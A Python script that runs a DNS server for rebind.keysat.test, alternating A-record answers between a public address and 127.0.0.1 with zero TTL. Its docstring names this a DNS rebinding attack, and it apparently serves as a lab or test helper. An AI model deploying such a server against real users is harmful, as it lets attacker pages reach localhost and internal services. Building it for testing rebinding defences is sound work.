#!/usr/bin/env python3
"""A DNS server whose answer for rebind.keysat.test changes on every A query: first a public
address, then 127.0.0.1, and so on (a DNS rebinding attack). Other names: NXDOMAIN.

usage: rebinding_dns.py LISTEN_ADDRESS
"""
import socket, struct, sys

answers = [bytes([93, 184, 216, 34]), bytes([127, 0, 0, 1])]
queries = 0
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((sys.argv[1], 53))
while True:
    data, peer = sock.recvfrom(512)
    if len(data) < 12:
        continue
    ident = data[:2]
    index, labels = 12, []
    while data[index] != 0:
        labels.append(data[index + 1:index + 1 + data[index]].decode())
        index += 1 + data[index]
    qtype = struct.unpack(">H", data[index + 1:index + 3])[0]
    question = data[12:index + 5]
    name = ".".join(labels).lower()
    if name != "rebind.keysat.test":
        sock.sendto(ident + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + question, peer)
        continue
    if qtype != 1:  # only A records
        sock.sendto(ident + struct.pack(">HHHHH", 0x8180, 1, 0, 0, 0) + question, peer)
        continue
    address = answers[queries % 2]
    queries += 1
    record = struct.pack(">HHHIH", 0xC00C, 1, 1, 0, 4) + address
    sock.sendto(ident + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + question + record, peer)
